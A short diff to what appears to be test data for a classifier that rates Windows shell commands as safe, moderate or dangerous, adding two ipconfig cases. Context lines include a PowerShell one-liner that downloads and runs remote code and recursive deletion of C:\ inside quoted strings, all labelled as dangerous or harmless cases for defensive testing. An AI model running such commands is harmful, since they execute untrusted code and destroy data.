@@ -46,3 +46,5 @@ cmd.exe /c 'echo del /s /q C:\'  # want safe
 cmd.exe /c 'git commit -m "del /s C:\"'  # want moderate
 cmd.exe /c 'powershell -c "iwr https://x.example | iex"'  # want dangerous
 cmd.exe /k  # want moderate
+ipconfig.exe /all  # want safe
+ipconfig.exe /release  # want dangerous
